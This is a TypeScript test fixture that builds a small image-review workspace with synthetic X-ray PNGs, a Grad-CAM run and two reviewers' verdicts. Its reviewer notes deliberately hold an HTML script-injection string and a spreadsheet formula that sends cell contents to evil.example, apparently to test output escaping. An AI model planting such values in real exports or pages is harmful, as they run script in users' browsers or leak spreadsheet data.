// A small review workspace for report/API tests: 6 PNG cases in class folders (normal/fracture),
// a model row, one Grad-CAM-like run with a 7×7 map per case, and verdicts by two reviewers.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { writePng } from '../../core/data/png.ts';
import { Workspace } from '../../core/store/workspace.ts';

export const HOSTILE_NOTE = '<script>alert("x")</script> & "quoted", line\nbreak';
export const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")';

export async function makeImages(dir: string, n = 6): Promise<string> {
  const root = join(dir, 'images');
  for (let i = 0; i < n; i++) {
    const cls = i % 2 ? 'fracture' : 'normal';
    mkdirSync(join(root, cls), { recursive: true });
    const w = 32, h = 24, data = new Uint8Array(w * h);
    for (let p = 0; p < data.length; p++) data[p] = (p * (i + 3)) % 256;
    await writePng(join(root, cls, `case${i}.png`), { width: w, height: h, channels: 1, data });
  }
  return root;
}

/** Verdicts: ana and ben on all 6 (agree on 4), ana's note on case 0 is hostile HTML, ben's on case 1 a formula. */
export const ANA = ['on-target', 'off-target', 'on-target', 'artifact', 'on-target', 'off-target'];
export const BEN = ['on-target', 'on-target', 'on-target', 'artifact', 'off-target', 'off-target'];

export function populate(ws: Workspace, imagesRoot: string, cases: { key: string; path: string; label?: string }[]): void {
  const ds = ws.addDataset({ name: 'xr', kind: 'folder', path: imagesRoot }, cases.map((c, i) => ({ ...c, prediction: i % 3 ? 'fracture' : 'normal', score: i / 10 })));
  const modelId = ws.addModel({ name: 'resnet18-xr', sha256: 'a'.repeat(64), bytes: 1234 });
  const run = ws.startRun({ modelId, datasetId: ds, method: 'gradcam', settings: { layer: 'layer4', preprocessing: { size: [24, 32], resize: 'stretch' } }, provider: 'cpu' });
  const list = ws.listCases({ datasetId: ds });
  list.forEach((c, i) => {
    const map = new Float32Array(49);
    map[(i % 7) * 7 + 3] = 1;
    ws.putResult({ runId: run, caseId: c.id, map: { dtype: 'float32', dims: [1, 7, 7], data: map }, score: i / 10 });
  });
  ws.finishRun(run, { totalMs: 321, perCaseMs: 53.5 });
  list.forEach((c, i) => {
    ws.giveVerdict({ caseId: c.id, reviewer: 'ana', verdict: ANA[i]!, note: i === 0 ? HOSTILE_NOTE : `ana ${i}`, methods: ['gradcam'] });
    ws.giveVerdict({ caseId: c.id, reviewer: 'ben', verdict: BEN[i]!, note: i === 1 ? FORMULA_NOTE : '', methods: ['gradcam'] });
  });
}
